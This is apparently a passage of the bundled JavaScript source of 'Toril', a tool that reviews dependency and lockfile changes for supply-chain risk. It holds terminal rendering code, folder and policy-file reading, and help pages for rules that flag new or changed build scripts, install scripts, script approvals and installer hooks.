const require = process.getBuiltinModule;
import {
  cacheFolder
} from "./shared.commands.toril.js";
import {
  checkOutput,
  renderJson,
  renderSarif,
  writeOutput
} from "./shared.action.commands.js";
import {
  didYouMean,
  filtered,
  matchesWildcards,
  whoOfNoFinding
} from "./shared.commands.parse-command.js";
import {
  diffArrays,
  rules
} from "./shared.commands.engine.js";
import {
  Disk,
  diskReader,
  identify,
  isFolder,
  linkAt
} from "./shared.commands.git-sides.js";
import {
  COARSENESS,
  SEVERITY_WORDS,
  appInWords,
  asBefore,
  asBeforeInWords,
  buildInFull,
  confidenceInWords,
  counted,
  countsInWords,
  decisionInWords,
  digestOf,
  groupGaps,
  headlineOf,
  numbered,
  numbersInWords,
  orderNarrowings,
  placeInWords,
  placesOf,
  registries,
  renderMarkdown,
  revisionInWords,
  turnedOffInWords,
  verdictInWords,
  witnessLead
} from "./shared.action.commands.serve.js";
import {
  VERSION
} from "./shared.action.commands.parse-command.serve.toril.js";
import {
  DEFAULT_POLICY,
  outcomeOf
} from "./shared.action.commands.engine.serve.js";
import {
  SEVERITIES,
  atLeast
} from "./shared.action.commands.engine.parse-command.serve.js";
import {
  ListingBuilder,
  TREE_LIMITS,
  compareText,
  gapIn,
  listedOnce,
  wordsOf
} from "./shared.action.commands.engine.git-sides.serve.js";
import {
  POLICY_PATH
} from "./shared.action.commands.engine.git-sides.parse-command.serve.js";
import {
  SetupError,
  code,
  spansOf,
  visible
} from "./shared.action.commands.engine.git-sides.parse-command.serve.toril.js";

// src/renderers/terminal.ts
var BOLD = "1";
var DIM = "2";
var CODE = "36";
function painter(colour) {
  return { colour, as: (attributes, text) => colour && text !== "" ? coloured(attributes, text) : text };
}
function coloured(attributes, text) {
  return `\x1B[${attributes}m${text}\x1B[${attributes === CODE ? "39" : "0"}m`;
}
var LONGEST_FIELD = 2e3;
function inert(text) {
  const cut = text.length > LONGEST_FIELD;
  const shown2 = visible(cut ? text.slice(0, LONGEST_FIELD) : text).replaceAll("##[", "#\\u{23}[");
  return cut ? `${shown2}… (${text.length - LONGEST_FIELD} more characters)` : shown2;
}
var ESCAPE = String.fromCharCode(27);
var COMMAND = new RegExp(`^((?:\\s|${ESCAPE}\\[[\\d;]*m)*):(?=:)`);
function printed(lines) {
  return `${lines.map((line) => line.trimEnd().replace(COMMAND, "$1\\u{3a}")).join("\n")}
`;
}
function widthOf(text) {
  if (ASCII.test(text)) return text.length;
  let width = 0;
  for (const character of text) width += MARK.test(character) ? 0 : WIDE.test(character) ? 2 : 1;
  return width;
}
function wrap(sentence, width, paint) {
  return laidOut(spansOf(inert(sentence)), width, paint);
}
function wrapAsIs(text, width, paint) {
  return laidOut([{ kind: "text", text: inert(text) }], width, paint);
}
function laidOut(spans, width, paint) {
  const lines = [];
  let line = "";
  let used = 0;
  for (const word of wordsOf2(spans, paint).flatMap((whole) => broken(whole, width))) {
    const wide = widthOfWord(word);
    if (used > 0 && used + 1 + wide > width) {
      lines.push(line);
      line = "";
      used = 0;
    }
    line += (used > 0 ? " " : "") + painted(word, paint);
    used += (used > 0 ? 1 : 0) + wide;
  }
  return used > 0 ? [...lines, line] : lines;
}
var ASCII = /^[ -~]*$/;
var MARK = new RegExp("\\p{M}", "u");
var WIDE = /[\p{Script=Han}\p{Script=Hangul}\p{Script=Hiragana}\p{Script=Katakana}\p{Emoji_Presentation}\u{ff01}-\u{ff60}]/u;
function wordsOf2(spans, paint) {
  const words = [[]];
  for (const span of spans) {
    const isCode = span.kind === "code";
    const text = isCode && !paint.colour ? `\`${span.text}\`` : span.text;
    text.split(" ").forEach((part, index) => {
      if (index > 0) words.push([]);
      if (part !== "") words.at(-1)?.push({ text: part, isCode });
    });
  }
  return words.filter((word) => word.length > 0);
}
function broken(word, width) {
  if (widthOfWord(word) <= width) return [word];
  const pieces = [[]];
  let used = 0;
  for (const { text, isCode } of word) {
    for (const character of text) {
      const wide = widthOf(character);
      if (used + wide > width) {
        pieces.push([]);
        used = 0;
      }
      const last = pieces.at(-1)?.at(-1);
      if (last?.isCode === isCode) last.text += character;
      else pieces.at(-1)?.push({ text: character, isCode });
      used += wide;
    }
  }
  return pieces;
}
function widthOfWord(word) {
  return word.reduce((sum, { text }) => sum + widthOf(text), 0);
}
function painted(word, paint) {
  return word.map(({ text, isCode }) => isCode ? paint.as(CODE, text) : text).join("");
}

// src/renderers/excerpt.ts
var AROUND = 2;
var MOST_MARKED = 4;
function excerptOf(place, excerpts, width, paint) {
  const file = excerpts.get(place.path);
  if (file?.lines[place.line - 1] === void 0) return [];
  const lastMarked = Math.min(Math.max(place.line, place.endLine), place.line + MOST_MARKED - 1);
  const first = Math.max(1, place.line - AROUND);
  const last = Math.min(file.lines.length, lastMarked + AROUND);
  const digits = String(last).length;
  return file.lines.slice(first - 1, last).map((text, index) => {
    const number = first + index;
    const marked = number >= place.line && number <= lastMarked;
    const gutter = `${marked ? ">" : " "} ${String(number).padStart(digits)} ${file.added.has(number) ? "+" : "│"}`;
    const shown2 = cutAround(text, number === place.line ? place.column : 1, width - digits - 5);
    return `${paint.as(marked ? BOLD : DIM, gutter)} ${marked ? shown2 : paint.as(DIM, shown2)}`;
  });
}
function cutAround(line, column, width) {
  if (line.length <= width) return cutEnd(shown(line), width);
  const start = column - 1 < width * 2 / 3 ? 0 : column - 1 - Math.floor(width / 3);
  const rest = shown(line.slice(start, start + width * 2));
  return start === 0 ? cutEnd(rest, width) : `…${cutEnd(rest, width - 1)}`;
}
function cutEnd(text, width) {
  if (widthOf(text) <= width) return text;
  let kept = "";
  let used = 0;
  for (const character of text) {
    used += widthOf(character);
    if (used >= width) break;
    kept += character;
  }
  return `${kept}…`;
}
function shown(line) {
  return inert(line.replaceAll("	", "  ").replace(/\r$/, ""));
}

// src/renderers/text-finding.ts
var DEFAULT_WIDTH = 100;
var LABEL_WIDTH = 12;
var INDENT = "  ";
function findingLines({ number, finding }, width, excerpts, paint) {
  const severity = finding.severity.toUpperCase();
  const lead = `${number}  ${severity}  `;
  const [first = "", ...rest] = wrap(finding.title, width - lead.length, paint);
  const sure = confidenceInWords(finding);
  const rule = sure === "" ? finding.rule : `${finding.rule} (${sure})`;
  return [
    `${number}  ${paint.as(SEVERITY_WORDS[finding.severity].ansi, severity)}  ${paint.as(BOLD, first)}`,
    ...rest.map((line) => " ".repeat(lead.length) + paint.as(BOLD, line)),
    ...indented(wrapAsIs(placeInWords(finding), width - INDENT.length, paint)),
    ...indented(wrapAsIs(rule, width - INDENT.length, paint).map((line) => paint.as(DIM, line))),
    "",
    ...withSpace(indented(excerptOf(finding, excerpts, width - INDENT.length, paint))),
    ...finding.build === null ? [] : labelled("Build", buildInFull(finding.build), width, paint),
    ...labelled("Witness", `${witnessLead(finding.witness)}:`, width, paint),
    ...quoted(finding.witness.text, width, paint),
    ...labelled("Before", finding.base, width, paint),
    ...labelled("After", finding.head, width, paint),
    ...labelled("Why", finding.message, width, paint),
    ...labelled("What to do", finding.remedy, width, paint),
    ...finding.details.flatMap((row, index) => labelled(index === 0 ? "Each" : "", row, width, paint))
  ];
}
function labelled(label, sentence, width, paint) {
  const lines = wrap(sentence, width - INDENT.length - LABEL_WIDTH, paint);
  return lines.map(
    (line, index) => INDENT + paint.as(DIM, (index === 0 ? label : "").padEnd(LABEL_WIDTH)) + line
  );
}
function indented(lines) {
  return lines.map((line) => INDENT + line);
}
function quoted(text, width, paint) {
  const room = width - INDENT.length - LABEL_WIDTH - 2;
  const lines = wrapAsIs(text, room, paint);
  return lines.map((line) => " ".repeat(INDENT.length + LABEL_WIDTH + 2) + paint.as(BOLD, line));
}
function withSpace(lines) {
  return lines.length === 0 ? lines : [...lines, ""];
}

// src/renderers/explain.ts
function renderFinding(finding, options) {
  const width = options.width ?? DEFAULT_WIDTH;
  return printed(findingLines(finding, width, options.excerpts ?? /* @__PURE__ */ new Map(), painter(options.colour)));
}
function renderRule(page, options) {
  const width = options.width ?? DEFAULT_WIDTH;
  const paint = painter(options.colour);
  return printed(
    blocksOf(page).flatMap((block, index) => [
      ...index > 0 ? [""] : [],
      ...blockLines(block, width, paint)
    ])
  );
}
function blocksOf(page) {
  const blocks = [];
  let open2 = [];
  let fence;
  const close = () => {
    if (open2.length > 0) blocks.push({ kind: kindOf(open2), lines: open2 });
    open2 = [];
  };
  for (const line of withoutComments(page).split(/\r?\n/)) {
    const mark = /^(`{3,}|~{3,})/.exec(line)?.[1];
    if (fence !== void 0) {
      if (mark === fence) {
        blocks.push({ kind: "code", lines: open2 });
        open2 = [];
        fence = void 0;
      } else open2.push(line);
    } else if (mark !== void 0) {
      close();
      fence = mark;
    } else if (line.trim() === "") {
      close();
    } else if (/^#{1,6} /.test(line)) {
      close();
      blocks.push({ kind: "heading", lines: [line.replace(/^#+ /, "")] });
    } else open2.push(line);
  }
  close();
  return blocks;
}
function kindOf(lines) {
  if (lines[0]?.startsWith("|")) return "table";
  return ITEM.test(lines[0] ?? "") ? "items" : "paragraph";
}
var ITEM = /^( *)([-*]|\d{1,3}\.) /;
function blockLines(block, width, paint) {
  switch (block.kind) {
    case "heading":
      return wrap(inline(block.lines.join(" ")), width, paint).map((line) => paint.as(BOLD, line));
    case "code":
      return block.lines.map((line) => `    ${paint.as(DIM, inert(line.replaceAll("	", "  ")))}`);
    case "table":
      return tableLines(block.lines, width, paint);
    case "items":
      return itemsOf(block.lines).flatMap((item2) => itemLines(item2, width, paint));
    case "paragraph":
      return wrap(inline(block.lines.join(" ")), width, paint);
  }
}
function itemsOf(lines) {
  const items = [];
  for (const line of lines) {
    if (ITEM.test(line)) items.push(line);
    else items.push(`${items.pop() ?? ""} ${line.trim()}`);
  }
  return items;
}
function itemLines(item2, width, paint) {
  const [whole = "", indent = "", bullet = "-"] = ITEM.exec(item2) ?? [];
  const lead = `${indent}${bullet} `;
  return wrap(inline(item2.slice(whole.length)), width - lead.length, paint).map(
    (line, index) => (index === 0 ? lead : " ".repeat(lead.length)) + line
  );
}
function tableLines(lines, width, paint) {
  return lines.filter((line) => !/^[\s|:-]+$/.test(line)).flatMap((line) => {
    const cells = line.split(/(?<!\\)\|/).map((cell) => cell.trim().replaceAll("\\|", "|"));
    return wrap(inline(cells.filter((cell) => cell !== "").join(" · ")), width, paint);
  });
}
function inline(text) {
  return text.split(/(`[^`]*`)/).map((part) => part.startsWith("`") ? part : withoutMarks(part)).join("");
}
function withoutMarks(text) {
  return text.replace(/\[([^\]]*)\]\((https:[^)]*)\)/g, "$1 ($2)").replace(/\[([^\]]*)\]\([^)]*\)/g, "$1").replace(/\*\*([^*]+)\*\*/g, "$1").replace(/(?<![\w*])\*([^*\s][^*]*)\*(?![\w*])/g, "$1");
}
function withoutComments(page) {
  return page.replace(/<!--[\s\S]*?-->/g, "");
}

// src/review/added-lines.ts
var MOST_EDITS = 2e3;
function addedLines(base, head) {
  const parts = base === void 0 ? void 0 : diffArrays([...base], [...head], { maxEditLength: MOST_EDITS });
  if (parts === void 0) return new Set(head.map((_, index) => index + 1));
  const added = /* @__PURE__ */ new Set();
  let line = 1;
  for (const part of parts) {
    if (part.removed) continue;
    if (part.added) for (let i = 0; i < part.value.length; i += 1) added.add(line + i);
    line += part.value.length;
  }
  return added;
}

// src/hosts/cli/excerpts.ts
async function excerptsFor(findings, base, head) {
  const paths = new Set(findings.map(({ path }) => path));
  const [before, after] = await Promise.all([linesOf(paths, base), linesOf(paths, head)]);
  return new Map(
    [...after].map(([path, lines]) => [path, { lines, added: addedLines(before.get(path), lines) }])
  );
}
async function linesOf(paths, tree) {
  const entries = (await tree.list()).entries.filter(({ path }) => paths.has(path));
  const blobs = entries.length === 0 ? /* @__PURE__ */ new Map() : await tree.read(entries);
  return new Map(
    entries.flatMap(({ path, id }) => {
      const bytes = blobs.get(id);
      return bytes === void 0 ? [] : [[path, new TextDecoder().decode(bytes).split(/\r?\n/)]];
    })
  );
}

// src/adapters/folder/folder-tree.ts
var { readdir } = process.getBuiltinModule("node:fs/promises");
var { join, resolve } = process.getBuiltinModule("node:path");
async function openFolderTree(folder) {
  if (!await isFolder(folder))
    throw new SetupError(`There is no folder ${folder}. Give the path of a folder that exists.`);
  const disk = new Disk(resolve(folder));
  return { list: () => listFolder(disk, folder), read: diskReader(disk, "sha1") };
}
async function openFolderTrees(base, head) {
  const [hasBase, hasHead] = await Promise.all([isFolder(base), isFolder(head)]);
  const open2 = (folder, isThere) => isThere || !(hasBase || hasHead) ? openFolderTree(folder) : Promise.resolve(absentTree(folder));
  return Promise.all([open2(base, hasBase), open2(head, hasHead)]);
}
function absentTree(folder) {
  const gap = gapIn("", {
    kind: "unreadable",
    rests: wordsOf("no folder"),
    message: `There is no folder ${code(folder)}, so that side was read as empty.`
  });
  return {
    list: async () => ({ revision: { rev: folder, sha: null }, entries: [], unfollowed: [], gaps: [gap] }),
    read: async () => /* @__PURE__ */ new Map()
  };
}
async function listFolder(disk, name) {
  const listing = new ListingBuilder();
  for (const entry of await identify(disk, await walk(disk, listing), "sha1")) listing.add(entry);
  return listing.finish({ rev: name, sha: null });
}
async function walk(disk, listing) {
  const files = [];
  const waiting = [""];
  const filledByTools = [];
  for (let folder = next(); folder !== void 0; folder = next()) {
    for (const item2 of await itemsIn(disk, folder, listing)) {
      const path = folder === "" ? item2.name : `${folder}/${item2.name}`;
      if (!listing.hasRoom(files.length)) return files;
      if (!item2.isDirectory()) await noteFile(disk, path, files, listing);
      else if (FILLED_BY_TOOLS.has(item2.name)) filledByTools.push(path);
      else if (item2.name !== ".git") waiting.push(path);
    }
  }
  return files;
  function next() {
    return waiting.pop() ?? filledByTools.pop();
  }
}
var FILLED_BY_TOOLS = /* @__PURE__ */ new Set(["node_modules", "target"]);
async function itemsIn(disk, folder, listing) {
  if (folder.split("/").length > TREE_LIMITS.depth) {
    listing.addUnreadable(
      folder,
      `The folder lies more than ${TREE_LIMITS.depth} folders deep; it was left out.`
    );
    return [];
  }
  try {
    const items = await readdir(join(disk.root, folder), { withFileTypes: true });
    return items.sort((a, b) => compareText(a.name, b.name));
  } catch {
    listing.addUnreadable(folder, "The folder can't be opened; what lies in it is not known.");
    return [];
  }
}
async function noteFile(disk, path, files, listing) {
  const found = await disk.look(path);
  if (found.kind === "file") files.push({ path, size: found.size });
  else if (found.kind === "link") listing.addUnfollowed(linkAt(path, found.target, "sha1"));
  else if (found.kind === "special") listing.addUnfollowed({ path, what: "special file", id: null });
  else listing.addUnreadable(path, "The file can't be read.");
}

// src/hosts/cli/open-sides.ts
async function openSides(sides) {
  if (sides.kind === "git") return (await import("./git-sides.js")).openGitSides(sides);
  const [base, head] = await openFolderTrees(sides.base, sides.head);
  return {
    base: listedOnce(base),
    head: listedOnce(head),
    ownPolicy: async () => null,
    close: async () => {
    }
  };
}

// src/hosts/cli/policy-file.ts
var { open } = process.getBuiltinModule("node:fs/promises");
var MOST_BYTES = 1024 * 1024;
async function openPolicy(choice, sides) {
  if (choice.kind === "file") return { policy: taken(await readPolicyFile(choice.file)), note: "" };
  const own = choice.kind === "own" ? await sides.ownPolicy() : null;
  if (own === null) return { policy: DEFAULT_POLICY, note: "" };
  const { policyOf } = await import("./engine.js");
  return {
    policy: taken(
      policyOf(own.file),
      ` of ${own.of}`,
      "Use another one with --policy, or none with --no-policy."
    ),
    note: `Policy: ${code(own.file.path)} of ${own.of}`
  };
}
function taken(reading, where = "", hint2 = "") {
  if (reading.ok) return reading.policy;
  const lines = [`The policy${where} can't be used.`, ...reading.errors.map(errorLine), hint2];
  throw new SetupError(lines.filter((line) => line !== "").join("\n"));
}
async function readPolicyFile(file) {
  const text = await textOf(file);
  const { readPolicy } = await import("./engine.js");
  return readPolicy({ path: file, id: file, text });
}
function errorLine({ at: { path, line, column }, message }) {
  return visible(`${path}:${line}:${column}: ${message}`);
}
async function textOf(file) {
  try {
    const handle = await open(file);
    try {
      const { buffer, bytesRead } = await handle.read(Buffer.alloc(MOST_BYTES + 1), 0, MOST_BYTES + 1, null);
      if (bytesRead > MOST_BYTES) throw new SetupError(`${file} is too large for a policy.`);
      return new TextDecoder("utf-8", { fatal: true }).decode(buffer.subarray(0, bytesRead));
    } finally {
      await handle.close();
    }
  } catch (error) {
    if (error instanceof SetupError) throw error;
    const isText = !(error instanceof TypeError);
    throw new SetupError(
      isText ? `There is no policy ${file} that can be read.` : `${file} is not UTF-8 text.`
    );
  }
}

// src/hosts/cli/reviewed.ts
async function withReview(command, terminal, use) {
  const sides = await openSides(command.sides);
  try {
    const { policy, note } = await policyFor(command, sides);
    const { reviewTrees } = await import("./engine.js");
    const review2 = await reviewTrees({
      base: sides.base,
      head: sides.head,
      facts: registries(
        { offline: command.offline, cache: command.cache ?? cacheFolder(process.env) },
        process.env
      ),
      policy,
      progress: terminal.progress
    });
    terminal.clearProgress();
    return await use({ review: review2, policy, note, sides });
  } finally {
    terminal.clearProgress();
    await sides.close();
  }
}
async function policyFor({ policy, failOn }, sides) {
  const chosen = await openPolicy(policy, sides);
  return failOn === null ? chosen : { ...chosen, policy: { ...chosen.policy, failOn } };
}

// src/hosts/cli/rule-pages.ts
var pages = {
  "build/build-code-changed": '# Code that runs while building has changed: `build/build-code-changed`\n\nSeverity: high where a compatible update newly reaches out, medium where another one does; low where it newly can\'t be followed; else info.\n\nSince: 0.1.0\n\nA crate or package that the app had is there in another version, and its build script, procedural macro or install script has other code.\n\n## Why it matters\n\nWhoever publishes a package may change what it runs on every machine that builds the app, with any release. Most such changes are small: a flag, another version of a compiler. Where the code newly starts programs, asks the network, reads secrets or writes elsewhere, it does what the attacks of the last years did. Toril reads the code and shows the lines; it never says that code is safe.\n\n## What to do\n\nWhere the code newly reaches out or can\'t be followed any more, the finding shows how the script changed: at most 200 lines, with three around each change. It is the main file of the script alone, of at most 64 KiB. Compare the rest of both versions in their archives: `cargo download` or `npm pack` fetch them without running anything.\n\n## When it says nothing\n\n- The code is the same.\n- The package is new: then `build/build-script-added` and its siblings tell.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a patch whose build script newly reaches out\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "zstd-sys"\n-version = "2.0.1"\n+version = "2.0.2"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "3b9e9b0dd6824f9525170de8d1b72a888ad00db6dad76f38cf713abeb036e845"\n+checksum = "bb64382b20be2a3e6740afaf124027c22671e0474b62fa4d06672ab628e0f747"\n```\n\nThe build script of `zstd-sys 2.0.2` newly reaches out:\n\n```\ncargo build  # compiles and runs the build script of zstd-sys 2.0.2\n```\n\n### It says nothing when the build script stays\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "zstd-sys"\n-version = "2.0.1"\n+version = "2.0.2"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "3b9e9b0dd6824f9525170de8d1b72a888ad00db6dad76f38cf713abeb036e845"\n+checksum = "bb64382b20be2a3e6740afaf124027c22671e0474b62fa4d06672ab628e0f747"\n```\n\n<!-- end examples -->\n\n## References\n\n- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)\n- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)\n',
  "build/build-script-added": '# A crate newly runs a build script: `build/build-script-added`\n\nSeverity: medium where the script reaches out, can\'t be followed or wasn\'t looked into, and high where a compatible update brings that, in itself or in a crate that it newly needs, since those are merged without reading; else low; info for Tauri\'s own plugins, which register their permissions that way.\n\nSince: 0.1.0\n\nA crate of the app runs a build script (`build.rs`, or the file that its `Cargo.toml` names), and no version of it that base locks ran one.\n\n## Why it matters\n\nA build script is a program that cargo compiles and runs before the app is built. It has the rights of whoever builds: on a developer\'s machine that is their home folder and their keys, on a build machine the secrets of the release. In August 2026 `arrayref 0.3.10` did nothing itself; it newly depended on a crate whose build script downloaded and ran a program.\n\nCargo.lock doesn\'t say which crates have one. Toril reads it in the crate\'s archive, whose hash the lockfile pins.\n\n## What to do\n\nOpen the crate\'s archive (docs.rs shows its source) and read the build script, and what it includes. Code that looks for a compiler or writes into `OUT_DIR` is what build scripts are for; network addresses, shells and encoded text are not. If it isn\'t needed, keep the version without it.\n\n## When it says nothing\n\n- A crate that ran a build script before is updated: its publisher could already do it.\n- A crate that can\'t be looked at, because the run is offline or the crate comes from git. That is a gap, not a finding.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a new crate that runs code when it is built\n\n`src-tauri/Cargo.lock`:\n\n```diff\n version = "1.0.0"\n dependencies = [\n+ "ring",\n  "tauri",\n ]\n\n [[package]]\n+name = "ring"\n+version = "0.17.8"\n+source = "registry+https://github.com/rust-lang/crates.io-index"\n+checksum = "a8c9b754f0cea63eb2e2bac0f47451a0d4cc20e6a95dad973595aafeeedb6969"\n+\n+[[package]]\n name = "tauri"\n version = "2.8.0"\n```\n\nBuilding the app newly runs the build script of `ring 0.17.8`:\n\n```\ncargo build  # compiles and runs the build script of ring 0.17.8\n```\n\n### It says nothing when a crate keeps its build script\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "ring"\n-version = "0.17.7"\n+version = "0.17.8"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "11814a3a52442c67aa5c32740978ef53b3ea6cc26ead9965995e7d34c760d62c"\n+checksum = "a8c9b754f0cea63eb2e2bac0f47451a0d4cc20e6a95dad973595aafeeedb6969"\n\n [[package]]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Cargo: build scripts](https://doc.rust-lang.org/cargo/reference/build-scripts.html)\n- [RUSTSEC-2022-0042: the malicious crate `rustdecimal`](https://rustsec.org/advisories/RUSTSEC-2022-0042.html)\n- [SLSA: threats to a supply chain](https://slsa.dev/spec/v1.0/threats)\n',
  "build/install-script-added": '# A package newly runs an install script: `build/install-script-added`\n\nSeverity: medium; high where an update within the same major version brings it, in itself or in a package that it newly needs; info where the project\'s npm blocks scripts that nobody approved.\n\nSince: 0.1.0\n\nA package of the frontend has an install script (`preinstall`, `install` or `postinstall`, or a native part that is built), and no version of it that base locks had one that runs. It is also told where the project newly lets a script run that it blocked before.\n\n## Why it matters\n\n`npm ci` runs these scripts on every developer\'s machine and on every build machine. Of all releases on npm, 0.023 % of the patches bring a first install script, and most of the large attacks of the last years did.\n\nThe lockfile says which packages have scripts, and npm believes it, but for a `binding.gyp`: npm 10 and 11 build one whatever the lockfile or the package\'s own `gypfile` say. So Toril looks into the archive of each new or changed package, whose hash the lockfile pins.\n\nWhether it runs is decided by what the project says: npm 12 runs only what `allowScripts` in package.json names, earlier ones run everything, and `ignore-scripts` in `.npmrc` runs nothing. Only what an older npm refuses to go by proves that npm 12 is used: `devEngines.packageManager`, or `engines.npm` together with `engine-strict`. Anywhere else Toril takes the script to run. A flag or a variable of a command goes before the files.\n\n## What to do\n\nLook at the script, or the `binding.gyp`, in the package\'s archive: `npm pack NAME@VERSION` fetches it without running anything. If you don\'t need it, install with `ignore-scripts=true`.\n\n## When it says nothing\n\n- A package whose script already ran is updated.\n- `ignore-scripts` is set, so that no script runs at all. Where only this change sets it, that is a gap: whoever brings a script could bring the setting that hides it.\n- A package that can\'t be looked at, because the run is offline or the package comes from elsewhere than npm\'s own registry. That is a gap, not a finding.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a new package with an install script\n\n`package-lock.json`:\n\n```diff\n       "version": "1.0.0",\n       "dependencies": {\n-        "nanoid": "^5.0.9"\n+        "nanoid": "^5.0.9",\n+        "esbuild": "^0.25.0"\n       }\n     },\n+    "node_modules/esbuild": {\n+      "version": "0.25.0",\n+      "integrity": "sha512-AwTjLYK4/63/UGDLSQHYRzKHgCUZKTIQcT82KVz3DEgq+DKHtaGbo52BRKl1rAkXz+SBv36CfAu6zFYmOrKaCw==",\n+      "hasInstallScript": true,\n+      "license": "MIT"\n+    },\n     "node_modules/nanoid": {\n       "version": "5.0.9",\n```\n\n`package.json`:\n\n```diff\n   "version": "1.0.0",\n   "dependencies": {\n-    "nanoid": "^5.0.9"\n+    "nanoid": "^5.0.9",\n+    "esbuild": "^0.25.0"\n   }\n }\n```\n\nInstalling the frontend newly runs the install script of `esbuild 0.25.0`:\n\n```\nnpm ci  # runs the install script of esbuild 0.25.0\n```\n\n### It says nothing when the script ran before\n\n`package-lock.json`:\n\n```diff\n       "version": "1.0.0",\n       "dependencies": {\n-        "esbuild": "^0.24.0"\n+        "esbuild": "^0.25.0"\n       }\n     },\n     "node_modules/esbuild": {\n-      "version": "0.24.0",\n-      "integrity": "sha512-KBUbxMeWvFvDWCIH+mXPz7i7XbRd+TSbU+P3cxod5KNUdpxBQgrgfoZmQAsR9hr1v4nYEzRr/1W/iR6E7nkd8g==",\n+      "version": "0.25.0",\n+      "integrity": "sha512-AwTjLYK4/63/UGDLSQHYRzKHgCUZKTIQcT82KVz3DEgq+DKHtaGbo52BRKl1rAkXz+SBv36CfAu6zFYmOrKaCw==",\n       "hasInstallScript": true,\n       "license": "MIT"\n```\n\n`package.json`:\n\n```diff\n   "version": "1.0.0",\n   "dependencies": {\n-    "esbuild": "^0.24.0"\n+    "esbuild": "^0.25.0"\n   }\n }\n```\n\n<!-- end examples -->\n\n## References\n\n- [npm: scripts](https://docs.npmjs.com/cli/v11/using-npm/scripts)\n- [npm: settings](https://docs.npmjs.com/cli/v11/using-npm/config)\n- [SLSA: threats to a supply chain](https://slsa.dev/spec/v1.0/threats)\n',
  "build/install-script-approved": '# An install script may newly run: `build/install-script-approved`\n\nSeverity: high where the scripts of all packages may run; medium for one package.\n\nSince: 0.1.0\n\nA setting of a package manager lets install scripts run that waited for approval before: of one package, or of all. Or a policy of cargo-deny lets code of a crate pass that its check stopped: a build script, an executable in its archive, or a crate that is left out.\n\n## Why it matters\n\nMost attacks on npm packages of the last years run in an install script, minutes after somebody asked for the package. npm 12, pnpm 10 and bun run such scripts only for packages that the project approved. An approval is therefore a permission: it names who may run a program on every developer\'s machine and on the one that builds releases. It mostly holds for all later versions too.\n\n## What to do\n\nRead the script. Approve single packages by name, and single versions where the package manager can. Many packages work without their script: it only prints a message, or fetches a binary that another package brings.\n\n## When it says nothing\n\n- The same approval moves to another file, such as from package.json to `pnpm-workspace.yaml`.\n- An approval goes, or a package is denied.\n- A policy of cargo-deny is narrower than before, by fewer crates or more conditions, or lies behind another one that counts.\n- The script of the package runs newly for this, and weighs as much: then that is told, at the package.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a package that is approved\n\n`package.json`:\n\n```diff\n   "packageManager": "pnpm@10.4.0",\n   "devDependencies": { "@tauri-apps/cli": "2.8.0" },\n-  "pnpm": { "onlyBuiltDependencies": ["esbuild"] }\n+  "pnpm": { "onlyBuiltDependencies": ["esbuild", "left-hook"] }\n }\n```\n\nThe install script of `left-hook` may newly run when packages are installed:\n\n```\nnpm ci  # may run the install script of left-hook\n```\n\n### It says nothing when approvals move to the workspace\'s file\n\n`package.json`:\n\n```diff\n   "name": "notes",\n   "packageManager": "pnpm@10.4.0",\n-  "devDependencies": { "@tauri-apps/cli": "2.8.0" },\n-  "pnpm": { "onlyBuiltDependencies": ["esbuild"] }\n+  "devDependencies": { "@tauri-apps/cli": "2.8.0" }\n }\n```\n\n`pnpm-workspace.yaml`:\n\n```diff\n+onlyBuiltDependencies:\n+  - esbuild\n```\n\n<!-- end examples -->\n\n## References\n\n- [npm: allow-scripts](https://docs.npmjs.com/cli/v11/using-npm/config)\n- [pnpm: settings](https://pnpm.io/settings)\n- [cargo-deny: bans](https://embarkstudios.github.io/cargo-deny/checks/bans/cfg.html)\n- [Bun: trusted dependencies](https://bun.com/docs/install/lifecycle)\n',
  "build/installer-extended": "# Installing newly runs other code: `build/installer-extended`\n\nSeverity: high.\n\nSince: 0.1.0\n\nA setting has the package manager run other code while it installs: a hook file, a plugin, a shell, another release of the manager itself.\n\n## Why it matters\n\nSuch code runs before and beside all packages. It sees the secrets of the machine, and may change what every package is, after the lockfile was checked. `.pnpmfile.cjs` and plugins of Yarn are programs; `yarnPath` replaces Yarn by a file; `script-shell` and `node-options` put a program in front of every script.\n\n## What to do\n\nRead the code that is named. Keep it in the repository, so that its changes are reviewed too, or take it out.\n\n## When it says nothing\n\n- The same setting in another file of the same manager.\n- A hook goes.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags another Yarn\n\n`.yarnrc.yml`:\n\n```diff\n nodeLinker: node-modules\n+yarnPath: .yarn/releases/yarn-4.5.0.cjs\n```\n\nInstalling packages newly runs what `yarnPath: .yarn/releases/yarn-4.5.0.cjs` names:\n\n```\nyarn install  # runs what yarnPath: .yarn/releases/yarn-4.5.0.cjs names\n```\n\n### It says nothing when packages are laid elsewhere\n\n`.yarnrc.yml`:\n\n```diff\n-nodeLinker: node-modules\n+nodeLinker: pnp\n```\n\n<!-- end examples -->\n\n## References\n\n- [pnpm: .pnpmfile.cjs](https://pnpm.io/pnpmfile)\n- [Yarn: plugins](https://yarnpkg.com/features/extensibility)\n- [npm: config](https://docs.npmjs.com/cli/v11/using-npm/config)\n",
